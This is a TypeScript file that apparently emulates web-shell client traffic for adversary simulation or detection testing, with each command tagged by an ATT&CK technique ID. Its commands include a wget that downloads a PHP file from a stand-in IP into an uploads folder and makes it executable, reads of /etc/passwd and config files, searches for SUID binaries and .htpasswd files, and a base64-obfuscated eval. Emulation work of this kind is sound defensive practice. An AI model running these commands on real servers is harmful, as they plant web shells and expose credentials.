import { sh } from './hand';
import type { Hand } from './hand';

/** Other web-shell clients: pages with a command box, and clients that wrap by redirection and separators of their own. */
const page = (command: string): string => `cd '{root}' && ${command} 2>&1`;
const wrapped = (command: string): string => `(${command}) 2>&1; echo "__EOC__$?"`;

export const clientB: Hand = {
  name: 'client_b',
  commands: [
    sh('box-id', 'T1033', page('id')),
    sh('box-list', 'T1083', page('ls -lha')),
    sh('box-kernel', 'T1082', page('uname -srm')),
    sh('box-read', 'T1552.001', page('cat {config}')),
    sh('box-download', 'T1105', page('wget http://198.51.100.23/c.php -O {uploads}/style.php')),
    sh('box-permissions', 'T1222.002', page('chmod 755 {uploads}/style.php')),
    sh('box-suid', 'T1548.001', page('find / -xdev -type f -perm -04000 -ls')),
    sh('box-writable', 'T1083', page('find . -perm -2 -ls')),
    sh('box-htpasswd', 'T1552.001', page('find / -xdev -type f -name .htpasswd')),
    sh('box-ports', 'T1049', page('netstat -an | grep -i listen')),
    sh('wrapped-user', 'T1033', wrapped('whoami')),
    sh('wrapped-pwd', 'T1083', wrapped('cd /var/tmp; pwd')),
    sh('wrapped-users', 'T1087.001', wrapped('tail -n 5 /etc/passwd')),
    sh('wrapped-address', 'T1016', wrapped('hostname -I')),
    sh('wrapped-processes', 'T1057', wrapped('ps -eo pid,user,cmd')),
    sh('wrapped-crontab', 'T1053.003', wrapped('crontab -l')),
    sh('wrapped-eval', 'T1027', 'eval "$(echo bHMgLWxhIC9ob21l | base64 --decode)"'),
    sh('wrapped-python', 'T1059.006', wrapped(`python3 -c "print(open('/etc/passwd').read())"`)),
  ],
};
